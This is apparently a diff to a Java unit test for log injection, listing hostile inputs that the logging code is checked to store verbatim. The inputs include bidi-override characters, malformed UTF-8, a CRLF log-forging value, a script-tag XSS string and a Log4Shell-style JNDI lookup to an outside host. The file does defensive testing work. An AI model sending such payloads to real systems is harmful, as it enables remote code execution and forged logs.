@@ -45,7 +45,7 @@ class LogInjectionTest {
                 // Turned about: what follows is shown before it.
                 "\u202etxt.exe\u202c \u2066a\u2069 \u200f",
                 // As bytes that are no UTF-8 come: one character each.
-                "\u00c3\u0028 \u00ff\u00fe \u00e2\u0080\u00ae \u00c0\u00ae",
+                "\u00c3( \u00ff\u00fe \u00e2\u0080\u00ae \u00c0\u00ae",
                 "token=\r\nforged\"",
                 "</script><script>alert(1)</script>",
                 "\t${jndi:ldap://a.example/x} %n %msg {}");
@@ -110,8 +110,7 @@ class LogInjectionTest {
     }
 
     private static void holds(Map<String, String> fields, String at, String hostile) {
-        assertThat(fields.keySet().stream().filter(name -> name.startsWith(at)))
-                .hasSize(26);
+        assertThat(fields.keySet().stream().filter(name -> name.startsWith(at))).hasSize(26);
         assertThat(fields)
                 .containsEntry(at + "method", hostile)
                 .containsEntry(at + "host", hostile)
